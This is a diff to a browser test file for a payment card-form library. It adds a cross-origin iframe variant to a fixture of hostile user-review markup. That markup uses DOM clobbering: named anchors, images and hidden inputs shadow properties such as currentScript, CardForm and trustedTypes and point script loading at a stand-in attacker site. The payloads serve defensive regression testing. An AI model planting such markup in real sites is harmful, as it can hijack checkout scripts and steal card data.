@@ -51,10 +51,14 @@ const READ_OF_CONTAINER = ['append', 'classList', 'closest', 'getRootNode', 'isC
 /** Lies in the page and is never fetched itself: whatever reaches the attacker was sent by a script. */
 const image = (name: string, more = '') => `<img hidden loading="lazy" name="${name}" ${more}>`;
 
-/** What the stranger wrote. The two collections pass the sanitizers that many shops have. */
-const markup = (evil: ForeignSite) => `<p>A review by Mallory.</p>
+/** Passes the sanitizers that many shops have. */
+const COLLECTION =
+  '<a id="CardForm"></a><a id="CardForm" name="version"></a><a id="CardForm" name="mount"></a>';
+
+/** What the stranger wrote. */
+const markup = (evil: ForeignSite, cardForm = COLLECTION) => `<p>A review by Mallory.</p>
 ${image('currentScript', `src="${evil.url}/v1/card-form.js" data-card-form data-publishable-key="pk_live_evil"`)}
-<a id="CardForm"></a><a id="CardForm" name="version"></a><a id="CardForm" name="mount"></a>
+${cardForm}
 <a id="trustedTypes"></a><a id="addEventListener"></a><a id="origin"></a><a id="navigator"></a>
 ${READ_OF_DOCUMENT.map((name) => image(name)).join('\n')}
 ${READ_OF_CONTAINER.map((name) => `<input type="hidden" form="card-form" name="${name}">`).join('\n')}`;
@@ -129,6 +133,8 @@ ${await loaderOf(service, name)}
 test('issue 13, A1: nor what the npm package reads', async ({ page, service }) => {
   await withSites(async (shop, evil) => {
     const intent = await service.createIntent();
+    // A window of another origin throws at whoever reads of it.
+    const window = `<iframe hidden name="CardForm" src="${service.url}/partner/v1/card-form/frame"></iframe>`;
     const javascript = { type: 'text/javascript' };
     const built = new URL('../dist/package/card-form.js', import.meta.url);
     shop.put('/card-form.js', { ...javascript, body: await readFile(built, 'utf8') });
@@ -139,7 +145,7 @@ ${mountScript(service, intent)}`;
     const url = shop.put('/checkout', {
       headers: { 'Content-Security-Policy': "require-trusted-types-for 'script'; trusted-types card-form" },
       body: `<!doctype html><title>Shop</title><link rel="icon" href="data:,">
-${markup(evil)}
+${markup(evil, window)}
 <form id="card-form"></form>
 <script type="module" src="/shop.js"></script>`,
     });
